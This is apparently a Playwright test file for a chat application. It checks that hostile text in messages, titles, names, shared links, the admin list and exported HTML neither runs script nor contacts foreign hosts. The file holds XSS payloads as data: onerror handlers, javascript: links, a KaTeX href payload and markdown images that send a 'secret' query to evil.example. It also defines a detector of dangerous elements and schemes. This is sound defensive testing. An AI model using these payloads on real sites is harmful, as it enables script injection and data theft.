import { randomUUID } from 'node:crypto'
import { writeFile } from 'node:fs/promises'
import { pathToFileURL } from 'node:url'
import { type APIRequestContext, type BrowserContext, expect, type Page, test } from '@playwright/test'
import { XSS_CORPUS } from '@/components/markdown/xss-corpus.test-data'
import { addViewer, registerThere } from './api.ts'
import { ADMINISTRATOR, newPerson, type Person, practiceKey, Uru } from './uru.ts'

/** A page of a conversation has 50 messages, so that all of these are shown at once. */
const PAYLOADS_PER_CONVERSATION = 25
const TITLE_LENGTH = 200

/** Nothing that a person or a model writes may load this, nor anything else of another host. */
const HOSTILE_NAME = '"><img src="https://evil.example/name.png" onerror=alert(1)>'
const HOSTILE_QUESTION = [
  '![a](https://evil.example/a.png?q=secret)',
  '[b](javascript:alert(1))',
  '<img src=x onerror=alert(1)>',
  '<link rel=prefetch href=https://evil.example/c>',
  '$\\href{javascript:alert(1)}{d}$',
  '![e][f]\n\n[f]: https://evil.example/e.png',
].join('\n\n')

/** Notes what hostile text brought about in the pages of a context. */
class Watch {
  readonly seen: string[] = []

  private constructor() {}

  /** Watches from now on, and lets no request to another host through. */
  static async over(context: BrowserContext, origin: string): Promise<Watch> {
    const watch = new Watch()
    const isForeign = (url: URL) => /^(https?|wss?):$/.test(url.protocol) && url.origin !== origin
    await context.route(isForeign, (route) => {
      watch.seen.push(`request to ${route.request().url()}`)
      return route.abort()
    })
    context.on('request', (request) => {
      const { pathname } = new URL(request.url())
      if (/\/x"?$/.test(pathname)) watch.seen.push(`request to ${request.url()}`)
    })
    context.on('dialog', (dialog) => {
      watch.seen.push(`dialog: ${dialog.message()}`)
      return dialog.dismiss()
    })
    return watch
  }

  /** Shows what the page would render later, and looks for what would run, load or navigate. */
  async findsNothing(page: Page, where: string): Promise<void> {
    const found = await page.evaluate(dangers)
    expect.soft([...found, ...this.seen], where).toEqual([])
    this.seen.length = 0
  }
}

/** Runs in the page. */
function dangers(): string[] {
  const found: string[] = []
  for (const article of document.querySelectorAll<HTMLElement>('article, li, section')) {
    article.style.contentVisibility = 'visible'
  }
  // An exported file has no root of the application.
  const within = document.getElementById('root') === null ? 'body' : 'article'
  const forbidden = 'script, iframe, object, embed, base, portal, foreignObject, animate, form[action]'
  for (const element of document.querySelectorAll(`:is(${within}) :is(${forbidden})`)) {
    found.push(`element: ${element.outerHTML.slice(0, 200)}`)
  }
  for (const element of document.querySelectorAll('body *')) {
    for (const { name, value } of element.attributes) {
      const url = /^(href|src|srcset|poster|action|formaction|data|xlink:href|background)$/.test(name)
      const scheme = url ? /^\s*([a-z][a-z0-9+.-]*):/i.exec(value)?.[1]?.toLowerCase() : undefined
      if (name.startsWith('on')) found.push(`handler: ${element.outerHTML.slice(0, 200)}`)
      if (scheme !== undefined && !['http', 'https', 'mailto', 'blob'].includes(scheme)) {
        found.push(`${name}: ${value.slice(0, 200)}`)
      }
    }
  }
  return found
}

async function tokenOf(request: APIRequestContext, { email, password }: Person): Promise<string> {
  const login = await request.post('/api/v1/auth/login', {
    data: { email, password },
    headers: { 'Uru-Client': 'web' },
  })
  return ((await login.json()) as { accessToken: string }).accessToken
}

type Hostile = { id: string; title: string; last: string }

/** Imports conversations in which each payload is a question and its answer, and each title is a payload. */
async function importConversations(request: APIRequestContext, token: string): Promise<Hostile[]> {
  // Each payload is there twice; the later one stands after other text.
  const payloads = XSS_CORPUS.filter((_, index) => index % 2 === 0).map((text) =>
    text.replaceAll('\u0000', ''),
  )
  const titles = payloads.filter((text) => !/\p{Cc}/u.test(text) && text.length <= TITLE_LENGTH)
  const createdAt = new Date().toISOString()
  const conversations = []
  for (let begin = 0; begin < payloads.length; begin += PAYLOADS_PER_CONVERSATION) {
    const texts = payloads.slice(begin, begin + PAYLOADS_PER_CONVERSATION)
    const messages = texts.flatMap((text) => [
      { id: randomUUID(), role: 'user', text },
      { id: randomUUID(), role: 'assistant', text: `Sure, here you are:\n\n${text}\n\nand ${text}` },
    ])
    conversations.push({
      id: randomUUID(),
      title: titles[begin / PAYLOADS_PER_CONVERSATION] ?? '',
      titleSource: 'user',
      model: 'gpt-4o',
      systemPrompt: texts[0],
      pinned: false,
      archived: false,
      headMessageId: messages.at(-1)?.id,
      createdAt,
      updatedAt: createdAt,
      messages: messages.map(({ id, role, text }, index) => ({
        id,
        parentId: messages[index - 1]?.id ?? null,
        role,
        status: 'completed',
        ...(role === 'assistant' && { model: 'gpt-4o' }),
        createdAt,
        parts: [{ type: 'text', text }],
      })),
    })
  }
  const response = await request.post('/api/v1/import', {
    headers: { Authorization: `Bearer ${token}` },
    data: { format: 'uru-conversations', version: 1, conversations },
  })
  const { counts } = (await response.json()) as { counts: { imported: number } }
  expect(counts.imported).toBe(conversations.length)
  return conversations.map(({ id, title, messages }) => ({ id, title, last: messages.at(-1)?.id ?? '' }))
}

async function share(request: APIRequestContext, token: string, { id, last }: Hostile): Promise<string> {
  const response = await request.post(`/api/v1/conversations/${id}/share`, {
    headers: { Authorization: `Bearer ${token}` },
    data: { audience: 'everybody', headMessageId: last },
  })
  expect(response.ok()).toBe(true)
  return new URL(((await response.json()) as { url: string }).url).pathname
}

for (const [title, bypassCSP] of Object.entries({
  'hostile text neither runs nor loads anything': false,
  'hostile text neither runs nor loads anything, even without a content security policy': true,
})) {
  test.describe(() => {
    test.use({ bypassCSP })

    test(title, async ({ page, context, browser, request, baseURL }, testInfo) => {
      test.setTimeout(300_000)
      const origin = new URL(baseURL ?? '').origin
      const watch = await Watch.over(context, origin)
      const owner = newPerson(HOSTILE_NAME)
      await registerThere(request, owner)
      const token = await tokenOf(request, owner)
      const conversations = await importConversations(request, token)
      const uru = new Uru(page)

      await test.step('in questions, answers and titles', async () => {
        await page.goto('/')
        await uru.signIn(owner)
        await expect(uru.keyCard).toBeVisible()
        for (const { id } of conversations) {
          await page.goto(`/c/${id}`)
          await expect(uru.transcript.getByRole('article').last()).toContainText('Sure, here you are')
          await watch.findsNothing(page, `conversation ${id}`)
          expect(new URL(page.url()).pathname).toBe(`/c/${id}`)
        }
      })

      await test.step('in an answer that is being written', async () => {
        await page.goto('/')
        await uru.giveKey(practiceKey('fast'))
        await uru.ask(HOSTILE_QUESTION)
        await expect(uru.answer(0)).toContainText('With a real key')
        await watch.findsNothing(page, 'a streamed answer')
      })

      const links = await test.step('in what is shared', async () => {
        const paths = []
        for (const conversation of conversations) paths.push(await share(request, token, conversation))
        return paths
      })
      const there = await browser.newContext({ bypassCSP })
      const watchThere = await Watch.over(there, origin)
      const viewer = new Uru(await there.newPage())
      const vera = newPerson('Vera Viewer')
      await addViewer(request, vera)
      await viewer.page.goto('/')
      await viewer.signIn(vera)
      await expect(viewer.page.getByRole('heading', { name: 'Welcome, Vera Viewer' })).toBeVisible()
      await watchThere.findsNothing(viewer.page, 'the first page of a viewer')
      for (const link of links) {
        await viewer.page.goto(link)
        await expect(viewer.page.getByRole('article').first()).toBeVisible()
        await watchThere.findsNothing(viewer.page, `shared conversation ${link}`)
      }

      await test.step('in the list of people', async () => {
        await viewer.signOut()
        await viewer.signIn(ADMINISTRATOR)
        await expect(viewer.page.getByRole('button', { name: /^Account of/ })).toBeVisible()
        await viewer.page.goto('/admin/users')
        await viewer.page.getByRole('searchbox', { name: 'Name or e-mail' }).fill(owner.email)
        await expect(viewer.page.getByText('1 person')).toBeVisible()
        await expect(viewer.page.getByRole('table')).toContainText(HOSTILE_NAME)
        await watchThere.findsNothing(viewer.page, 'people')
      })
      await there.close()

      await test.step('in an exported file', async () => {
        for (const { id } of conversations) {
          const exported = await request.get(`/api/v1/conversations/${id}/export?format=html`, {
            headers: { Authorization: `Bearer ${token}` },
          })
          const file = testInfo.outputPath(`${id}.html`)
          await writeFile(file, await exported.body())
          await page.goto(pathToFileURL(file).href)
          await expect(page.getByText('Sure, here you are').last()).toBeVisible()
          await watch.findsNothing(page, `exported file ${id}`)
        }
      })
    })
  })
}

test.describe(() => {
  test.use({ bypassCSP: true })

  test('the watch notices what runs, loads or waits for a click', async ({ page, context, baseURL }) => {
    const watch = await Watch.over(context, new URL(baseURL ?? '').origin)
    await page.goto('/sign-in')
    await page.evaluate(() => {
      const article = document.createElement('article')
      article.innerHTML =
        '<img src="https://evil.example/1.png" onerror="alert(1)"><a href="javascript:alert(2)">x</a><iframe></iframe>'
      document.body.append(article)
    })
    await expect.poll(() => watch.seen).toEqual(['request to https://evil.example/1.png', 'dialog: 1'])
    expect((await page.evaluate(dangers)).map((danger) => danger.split(':', 1)[0])).toEqual([
      'element',
      'handler',
      'href',
    ])
  })
})
